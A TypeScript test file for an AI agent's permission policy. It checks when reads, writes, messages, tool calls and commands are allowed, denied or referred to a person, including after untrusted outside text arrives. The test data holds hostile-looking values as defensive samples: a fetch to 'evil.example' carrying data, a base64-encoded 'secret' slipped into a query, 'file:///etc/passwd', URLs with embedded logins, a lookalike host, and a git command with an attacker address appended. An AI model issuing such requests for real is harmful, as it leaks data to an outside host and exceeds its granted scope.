import type { AgentGrant, GrantCovers } from '@multi-job/contract';
import { describe, expect, test } from 'vitest';
import type { AgentAction } from '../agent-action.ts';
import { avoidKey } from '../avoid-key.ts';
import { canonicalAction } from '../canonical-action.ts';
import { grantInWords } from '../grant-words.ts';
import { narrowestGrant } from '../grants.ts';
import { decide } from './decide.ts';
import type { ActionFacts, PolicyContext } from './policy-context.ts';

const NOW = Date.parse('2026-11-30T00:00:00Z');
const ISSUES = 'https://api.github.com/repos/o/r/issues?state=open&page=2';

const read: AgentAction = http('GET', ISSUES);
const write: AgentAction = http('POST', 'https://api.github.com/repos/o/r/issues');
const message: AgentAction = { kind: 'message', channel: 'telegram', account_id: 'bot', to: null, text: 'hello' };
const tool: AgentAction = { kind: 'mcp_tool', server: 'files', tool: 'read_file', arguments: { path: 'a.txt' } };
const fetchTool: AgentAction = { ...tool, tool: 'fetch', arguments: { url: 'https://evil.example/?d=1' } };
const command: AgentAction = { kind: 'command', argv: ['git', 'log'], cwd: null };
const setValue: AgentAction = { kind: 'kv', op: 'set', key: 'last', value: 1 };
const getValue: AgentAction = { kind: 'kv', op: 'get', key: 'last' };
const writeFile: AgentAction = { kind: 'file', op: 'write', path: 'report.md', content: 'x' };
const readFile: AgentAction = { kind: 'file', op: 'read', path: 'report.md' };
const note: AgentAction = { kind: 'note', text: 'so far' };
const job: AgentAction = { kind: 'schedule_job', job: { job_id: 'later', type: 'report.daily' } };

const boundAccount = { state: 'enabled', origins: ['https://api.github.com'] } as const;
const READ: Partial<ActionFacts> = { class: 'read', account: boundAccount };
const WRITE: Partial<ActionFacts> = { class: 'plain_write', account: boundAccount };
const CHAT: Partial<ActionFacts> = { class: 'keyed_write', account: { state: 'enabled', origins: [] } };
const PINNED = { server: 'enabled', tool: 'pinned', isRead: true } as const;
const MCP_READ: Partial<ActionFacts> = { class: 'read', mcp: PINNED };
const MCP_WRITE: Partial<ActionFacts> = { class: 'plain_write', mcp: { ...PINNED, isRead: false } };
const RUNS = { state: 'allowed', isSensitive: false, program: '/usr/bin/git', reason: '' } as const;
const COMMAND: Partial<ActionFacts> = { class: 'plain_write', command: RUNS };
const TAINT = ['mcp:files/read_file'];

type Case = [
  name: string,
  action: AgentAction,
  facts: Partial<ActionFacts>,
  context: Partial<PolicyContext>,
  verdict: string,
];

describe('what an agent may do by itself', () => {
  const cases: Case[] = [
    ['a note', note, {}, {}, 'allow note'],
    ['a note, even where nothing is written', note, {}, { writePolicy: 'deny' }, 'allow note'],
    ['a read on an enabled account', read, READ, {}, 'allow read'],
    ['a read of a file', readFile, { class: 'read' }, {}, 'allow read'],
    ['a read of its own value', getValue, { class: 'read' }, {}, 'allow read'],
    ['a write of its own value', setValue, { class: 'keyed_write' }, {}, 'allow own_store'],
    ['the same after text from outside', setValue, { class: 'keyed_write' }, { taint: TAINT }, 'allow own_store'],
    ['a pinned tool that reads', tool, MCP_READ, {}, 'allow read'],
    ['the same after text from outside', tool, MCP_READ, { taint: TAINT }, 'allow read'],
  ];
  test.each(cases)('%s', (_name, action, facts, context, verdict) => {
    expect(ruleOf(action, facts, context)).toBe(verdict);
  });
});

describe('the type of the job, then its skills', () => {
  const skill = { name: 'skill "s"', allow: ['kv'], deny: [] } as const;
  const cases: Case[] = [
    ['a type that may not use the tool', read, READ, { jobType: 'report.daily' }, 'deny job_type'],
    ['a type that may', message, CHAT, { jobType: 'report.daily' }, 'ask write_asks'],
    ['a type of its own that declares nothing', setValue, {}, { jobType: 'own.type' }, 'deny job_type'],
    ['one that declares the tool', setValue, {}, { jobType: 'own.type', declaredTools: ['kv'] }, 'allow own_store'],
    ['a skill that does not have the tool', read, READ, { skills: [skill] }, 'deny skill'],
    ['a skill that has it', setValue, {}, { skills: [skill] }, 'allow own_store'],
    ['a skill that denies what it allows', setValue, {}, { skills: [{ ...skill, deny: ['kv'] }] }, 'deny skill'],
    ['the type comes before the skill', read, READ, { jobType: 'report.daily', skills: [skill] }, 'deny job_type'],
    ['the skill comes before the account', read, { account: { state: 'missing' } }, { skills: [skill] }, 'deny skill'],
    ['a grant opens neither', read, READ, { jobType: 'report.daily', grants: [grantFor(read)] }, 'deny job_type'],
    ['nor the skill', read, READ, { skills: [skill], grants: [grantFor(read)] }, 'deny skill'],
  ];
  test.each(cases)('%s', (_name, action, facts, context, verdict) => {
    expect(ruleOf(action, facts, context)).toBe(verdict);
  });
});

describe('accounts, channels, servers, commands', () => {
  const off = { ...RUNS, state: 'off', program: null } as const;
  const cases: Case[] = [
    ['an account that is not there', read, { ...READ, account: { state: 'missing' } }, {}, 'ask account_missing'],
    ['one that nobody looked for', read, { ...READ, account: null }, {}, 'ask account_missing'],
    ['one that is switched off', read, { ...READ, account: { state: 'disabled' } }, {}, 'deny account_disabled'],
    ['one that the job has in its list', read, READ, { allowedAccounts: ['github/main'] }, 'allow read'],
    ['one that it has not', read, READ, { allowedAccounts: ['github/other'] }, 'deny account_not_allowed'],
    ['no list of the job is an empty one', read, READ, { allowedAccounts: [] }, 'deny account_not_allowed'],
    ['not in the list and not there', read, { account: null }, { allowedAccounts: [] }, 'deny account_not_allowed'],
    [
      'a grant opens no account',
      read,
      READ,
      { allowedAccounts: [], grants: [grantFor(read)] },
      'deny account_not_allowed',
    ],
    ['a message by an account that is not there', message, { account: null }, {}, 'ask account_missing'],
    ['a channel in the list', message, CHAT, { allowedChannels: ['telegram'] }, 'ask write_asks'],
    ['a channel that is not', message, CHAT, { allowedChannels: ['slack'] }, 'deny channel_not_allowed'],
    [
      'a message by an account that is not in the list',
      message,
      CHAT,
      { allowedAccounts: [] },
      'deny account_not_allowed',
    ],
    ['a server that is not there', tool, { mcp: { ...PINNED, server: 'missing' } }, {}, 'ask mcp_server_missing'],
    ['one that is switched off', tool, { mcp: { ...PINNED, server: 'disabled' } }, {}, 'deny mcp_server_disabled'],
    [
      'one whose program is not allowed',
      tool,
      { mcp: { ...PINNED, server: 'not_allowed' } },
      {},
      'deny mcp_server_not_allowed',
    ],
    ['a server in the list', tool, MCP_READ, { allowedMcpServers: ['files'] }, 'allow read'],
    ['a server that is not', tool, MCP_READ, { allowedMcpServers: [] }, 'deny mcp_not_allowed'],
    ['a tool that was never pinned', tool, { mcp: { ...PINNED, tool: 'new' } }, {}, 'deny mcp_tool_not_pinned'],
    ['a tool that is gone', tool, { mcp: { ...PINNED, tool: 'gone' } }, {}, 'deny mcp_tool_gone'],
    ['a tool that has changed', tool, { mcp: { ...PINNED, tool: 'changed' } }, {}, 'ask mcp_tool_changed'],
    [
      'a grant does not open it',
      tool,
      { mcp: { ...PINNED, tool: 'changed' } },
      { grants: [grantFor(tool)] },
      'ask mcp_tool_changed',
    ],
    ['commands that are switched off', command, { command: off }, {}, 'deny commands_off'],
    ['a command that is refused', command, { command: { ...RUNS, state: 'refused' } }, {}, 'deny command_refused'],
    ['one that nobody looked for', command, { command: null }, {}, 'deny command_refused'],
    ['a job with wider rights', job, { widens: ['write_policy'] }, {}, 'deny wider_job'],
    ['a job with the same', job, { widens: [] }, {}, 'ask write_asks'],
  ];
  test.each(cases)('%s', (_name, action, facts, context, verdict) => {
    expect(ruleOf(action, facts, context)).toBe(verdict);
  });
});

describe('addresses', () => {
  test.each([
    ['not-an-address', 'deny address_unreadable'],
    ['/v1/pages', 'deny address_unreadable'],
    ['file:///etc/passwd', 'deny address_unreadable'],
    ['ftp://api.github.com/x', 'deny address_unreadable'],
    ['https://a:b@api.github.com/x', 'deny address_with_login'],
    ['https://token@api.github.com/x', 'deny address_with_login'],
    ['https://evil.example/x', 'ask new_host'],
    ['http://api.github.com/x', 'ask new_host'],
    ['https://api.github.com:8443/x', 'ask new_host'],
    ['https://api.github.com.evil.example/x', 'ask new_host'],
    ['https://API.GITHUB.COM/x', 'allow read'],
    ['https://api.github.com:443/x', 'allow read'],
  ])('%s', (url, verdict) => {
    expect(ruleOf(http('GET', url), READ)).toBe(verdict);
  });

  test.each([
    [['api.github.com'], 'allow read'],
    [['*.github.com'], 'allow read'],
    [['API.github.com'], 'allow read'],
    [['github.com'], 'ask new_host'],
    [['*.hub.com'], 'ask new_host'],
    [['api.github.com:8443'], 'ask new_host'],
    [['api.github.com:443'], 'allow read'],
    [[], 'ask new_host'],
  ])('allowed_hosts %j', (allowedHosts, verdict) => {
    expect(ruleOf(read, READ, { allowedHosts })).toBe(verdict);
  });

  test('a host in allowed_hosts that the account is not bound to asks all the same', () => {
    expect(ruleOf(http('GET', 'https://evil.example/x'), READ, { allowedHosts: ['evil.example'] })).toBe(
      'ask new_host',
    );
  });
});

describe('writes', () => {
  const named = {
    allowedAccounts: ['github/main', 'telegram/bot'],
    allowedMcpServers: ['files'],
    commandPrefixes: [['git']] as const,
  };
  const granted: Partial<PolicyContext> = { ...named, writePolicy: 'granted' };
  const cases: Case[] = [
    ['a write asks', write, WRITE, {}, 'ask write_asks'],
    ['so does a keyed one', write, { ...WRITE, class: 'keyed_write' }, {}, 'ask write_asks'],
    ['a message asks', message, CHAT, {}, 'ask write_asks'],
    ['a tool that writes asks', tool, MCP_WRITE, {}, 'ask write_asks'],
    ['a file asks', writeFile, { class: 'keyed_write' }, {}, 'ask write_asks'],
    ['a command asks', command, COMMAND, {}, 'ask write_asks'],
    ['deny: none is done', write, WRITE, { writePolicy: 'deny' }, 'deny write_denied'],
    [
      'deny: not even with a grant',
      write,
      WRITE,
      { writePolicy: 'deny', grants: [grantFor(write)] },
      'deny write_denied',
    ],
    ['deny: not its own value', setValue, {}, { writePolicy: 'deny' }, 'deny write_denied'],
    ['deny: a read goes on', read, READ, { writePolicy: 'deny' }, 'allow read'],
    ['granted: an account of the list', write, WRITE, granted, 'allow write_granted'],
    ['granted: a message by one', message, CHAT, granted, 'allow write_granted'],
    ['granted: a server of the list', tool, MCP_WRITE, granted, 'allow write_granted'],
    ['granted: a command of the list', command, COMMAND, granted, 'allow write_granted'],
    ['granted: a file', writeFile, { class: 'keyed_write' }, granted, 'allow write_granted'],
    ['granted: all that is enabled is no list', write, WRITE, { writePolicy: 'granted' }, 'ask write_asks'],
    ['granted: nor for servers', tool, MCP_WRITE, { writePolicy: 'granted' }, 'ask write_asks'],
    ['granted: nor for commands', command, COMMAND, { writePolicy: 'granted' }, 'ask write_asks'],
    ['granted: a job asks', job, {}, granted, 'ask write_asks'],
    ['granted: a new host asks', http('POST', 'https://evil.example/x'), WRITE, granted, 'ask new_host'],
    [
      'granted: the usual chat is named by itself',
      message,
      CHAT,
      { writePolicy: 'granted', named: targets({ defaultChat: 'telegram/bot' }) },
      'allow write_granted',
    ],
  ];
  test.each(cases)('%s', (_name, action, facts, context, verdict) => {
    expect(ruleOf(action, facts, context)).toBe(verdict);
  });
});

describe('grants', () => {
  const wideFetch = grantOf({ kind: 'mcp_tool', server: 'files', tool: 'fetch' });
  const cases: Case[] = [
    ['a write that one covers', write, WRITE, { grants: [grantFor(write)] }, 'allow grant'],
    [
      'another path',
      http('POST', 'https://api.github.com/repos/o/r/pulls'),
      WRITE,
      { grants: [grantFor(write)] },
      'ask write_asks',
    ],
    [
      'another method',
      http('DELETE', 'https://api.github.com/repos/o/r/issues'),
      WRITE,
      { grants: [grantFor(write)] },
      'ask write_asks',
    ],
    [
      'one that has expired',
      write,
      WRITE,
      { grants: [{ ...grantFor(write), expires_at: new Date(NOW).toISOString() }] },
      'ask write_asks',
    ],
    ['a message to a chat', message, CHAT, { grants: [grantFor(message)] }, 'allow grant'],
    ['to another chat', { ...message, to: '4711' }, CHAT, { grants: [grantFor(message)] }, 'ask write_asks'],
    [
      'a new host',
      http('GET', 'https://evil.example/x'),
      READ,
      { grants: [grantFor(http('GET', 'https://evil.example/x'))] },
      'allow grant',
    ],
    [
      'a command outside the list',
      command,
      { command: { ...RUNS, state: 'outside_list' } },
      {},
      'ask command_outside_list',
    ],
    [
      'with one',
      command,
      { command: { ...RUNS, state: 'outside_list' } },
      { grants: [grantFor(command)] },
      'allow grant',
    ],
    ['a sensitive command', command, { command: { ...RUNS, isSensitive: true } }, {}, 'ask command_sensitive'],
    ['with one', command, { command: { ...RUNS, isSensitive: true } }, { grants: [grantFor(command)] }, 'allow grant'],
    [
      'a command outside those of the job',
      command,
      COMMAND,
      { commandPrefixes: [['git', 'status']] },
      'ask command_outside_job',
    ],
    ['inside', command, COMMAND, { commandPrefixes: [['git']] }, 'ask write_asks'],
    ['what failed twice asks', write, WRITE, { avoid: [avoidKey(write)] }, 'ask failed_twice'],
    ['a read as well', read, READ, { avoid: [avoidKey(read)] }, 'ask failed_twice'],
    [
      'a grant does not help',
      write,
      WRITE,
      { avoid: [avoidKey(write)], grants: [grantFor(write)] },
      'ask failed_twice',
    ],
    [
      'something else failed twice',
      write,
      WRITE,
      { avoid: [avoidKey(read)], grants: [grantFor(write)] },
      'allow grant',
    ],
    [
      'a tool with an address in it, before text from outside',
      fetchTool,
      MCP_READ,
      { grants: [wideFetch] },
      'allow grant',
    ],
    ['after', fetchTool, MCP_READ, { grants: [wideFetch], taint: TAINT }, 'ask tainted_address'],
    ['a job', job, {}, { grants: [grantFor(job)] }, 'allow grant'],
    ['a job, after text from outside', job, {}, { grants: [grantFor(job)], taint: TAINT }, 'ask tainted_job'],
  ];
  test.each(cases)('%s', (_name, action, facts, context, verdict) => {
    expect(ruleOf(action, facts, context)).toBe(verdict);
  });
});

describe('after text from outside', () => {
  const granted: Partial<PolicyContext> = {
    taint: TAINT,
    writePolicy: 'granted',
    allowedAccounts: ['github/main', 'telegram/bot'],
    allowedMcpServers: ['files'],
    commandPrefixes: [['git', 'log']],
  };
  const cases: Case[] = [
    ['a read whose address the model made', read, READ, { taint: TAINT }, 'ask tainted_read_url'],
    ['one that the job names', read, READ, { taint: TAINT, named: targets({ urls: [ISSUES] }) }, 'allow read'],
    [
      'the same place with another query',
      http('GET', `${ISSUES}&d=1`),
      READ,
      { taint: TAINT, named: targets({ urls: [ISSUES] }) },
      'ask tainted_read_url',
    ],
    ['one that a grant covers', read, READ, { taint: TAINT, grants: [grantFor(read)] }, 'allow grant'],
    [
      'the next page of it',
      http('GET', ISSUES.replace('page=2', 'page=3')),
      READ,
      { taint: TAINT, grants: [grantFor(read)] },
      'allow grant',
    ],
    [
      'a query that does not fit',
      http('GET', ISSUES.replace('open', 'c2VjcmV0')),
      READ,
      { taint: TAINT, grants: [grantFor(read)] },
      'ask tainted_read_url',
    ],
    ['a tool with an address', fetchTool, MCP_READ, { taint: TAINT }, 'ask tainted_address'],
    [
      'that the job names',
      fetchTool,
      MCP_READ,
      { taint: TAINT, named: targets({ urls: ['https://evil.example/?d=1'] }) },
      'allow read',
    ],
    ['a write to what nobody named', write, WRITE, granted, 'ask tainted_target'],
    [
      'to what the job names',
      write,
      WRITE,
      { ...granted, named: targets({ urls: ['https://api.github.com/repos/o/r/issues'] }) },
      'allow write_granted',
    ],
    ['to what a grant names', write, WRITE, { ...granted, grants: [grantFor(write)] }, 'allow grant'],
    [
      'a message to the usual chat',
      message,
      CHAT,
      { ...granted, named: targets({ defaultChat: 'telegram/bot' }) },
      'allow write_granted',
    ],
    [
      'to a chat that nobody named',
      { ...message, to: '666' },
      CHAT,
      { ...granted, named: targets({ defaultChat: 'telegram/bot' }) },
      'ask tainted_target',
    ],
    [
      'to one of the prompt',
      { ...message, to: '4711' },
      CHAT,
      { ...granted, named: targets({ defaultChat: 'telegram/bot', words: ['4711'] }) },
      'allow write_granted',
    ],
    ['by an account that is not the usual one', message, CHAT, granted, 'ask tainted_target'],
    ['a tool that nobody named', tool, MCP_WRITE, granted, 'ask tainted_target'],
    [
      'one of the prompt',
      tool,
      MCP_WRITE,
      { ...granted, named: targets({ words: ['read_file'] }) },
      'allow write_granted',
    ],
    ['a file that nobody named', writeFile, { class: 'keyed_write' }, granted, 'ask tainted_target'],
    [
      'one of the prompt',
      writeFile,
      { class: 'keyed_write' },
      { ...granted, named: targets({ words: ['report.md'] }) },
      'allow write_granted',
    ],
    [
      'a command of the job',
      command,
      COMMAND,
      { ...granted, named: targets({ commandPrefixes: [['git', 'log']] }) },
      'allow write_granted',
    ],
    [
      'with an address behind it',
      { ...command, argv: ['git', 'log', 'https://evil.example'] },
      COMMAND,
      { ...granted, named: targets({ commandPrefixes: [['git', 'log']] }) },
      'ask tainted_address',
    ],
  ];
  test.each(cases)('%s', (_name, action, facts, context, verdict) => {
    expect(ruleOf(action, facts, context)).toBe(verdict);
  });

  test('whoever reads the reason is told where the text came from', () => {
    expect(decide(read, context(READ, { taint: TAINT })).reason).toContain('mcp:files/read_file');
  });
});

describe('modes', () => {
  const cases: Case[] = [
    ['plan: a read', read, READ, { mode: 'plan' }, 'deny mode_plan'],
    ['plan: a write', write, WRITE, { mode: 'plan' }, 'deny mode_plan'],
    ['plan: a note', note, {}, { mode: 'plan' }, 'allow note'],
    [
      'plan: what would be refused says why',
      read,
      { account: { state: 'disabled' } },
      { mode: 'plan' },
      'deny account_disabled',
    ],
    ['rehearse: a read', read, READ, { mode: 'rehearse' }, 'allow read'],
    ['rehearse: a read that asks', read, READ, { mode: 'rehearse', taint: TAINT }, 'ask tainted_read_url'],
    ['rehearse: a write', write, WRITE, { mode: 'rehearse' }, 'deny mode_rehearse'],
    [
      'rehearse: a write that is granted',
      write,
      WRITE,
      { mode: 'rehearse', grants: [grantFor(write)] },
      'deny mode_rehearse',
    ],
    ['rehearse: its own value', setValue, {}, { mode: 'rehearse' }, 'deny mode_rehearse'],
    ['rehearse: a denied write says why', write, WRITE, { mode: 'rehearse', writePolicy: 'deny' }, 'deny write_denied'],
  ];
  test.each(cases)('%s', (_name, action, facts, context, verdict) => {
    expect(ruleOf(action, facts, context)).toBe(verdict);
  });
});

test('every refusal and question says in a sentence what to do about it', () => {
  for (const verdict of [
    decide(read, context({ account: null })),
    decide(read, context(READ, { taint: TAINT })),
    decide(write, context(WRITE)),
    decide(tool, context({ mcp: { ...PINNED, tool: 'changed' } })),
  ]) {
    expect(verdict.reason.length).toBeGreaterThan(20);
    expect(verdict.reason).toMatch(/\.$/);
  }
});

function ruleOf(action: AgentAction, facts: Partial<ActionFacts>, given: Partial<PolicyContext> = {}): string {
  const { verdict, rule } = decide(canonicalAction(action), context(facts, given));
  return `${verdict} ${rule}`;
}

function context(facts: Partial<ActionFacts>, given: Partial<PolicyContext> = {}): PolicyContext {
  return {
    jobType: 'agent.workflow',
    skills: [],
    agentKey: 'key',
    writePolicy: 'ask',
    mode: 'run',
    allowedAccounts: null,
    allowedMcpServers: null,
    allowedHosts: null,
    allowedChannels: null,
    commandPrefixes: null,
    named: targets({}),
    grants: [],
    taint: [],
    avoid: [],
    facts: { class: 'plain_write', account: null, mcp: null, command: null, widens: [], ...facts },
    nowMs: NOW,
    ...given,
  };
}

function targets(named: Partial<PolicyContext['named']>): PolicyContext['named'] {
  return { urls: [], words: [], defaultChat: null, commandPrefixes: [], ...named };
}

function http(method: 'GET' | 'POST' | 'DELETE', url: string): AgentAction {
  return { kind: 'provider_http', account: 'github/main', method, url, headers: {}, body: null };
}

function grantFor(action: AgentAction): AgentGrant {
  return grantOf(narrowestGrant(canonicalAction(action), { command: RUNS })!);
}

function grantOf(covers: GrantCovers): AgentGrant {
  return {
    grant_id: 'g1',
    agent_key: 'key',
    covers,
    says: grantInWords(covers),
    approval_id: 'g1',
    created_at: new Date(NOW - 1000).toISOString(),
    created_by: 'ani',
    expires_at: new Date(NOW + 1).toISOString(),
  };
}
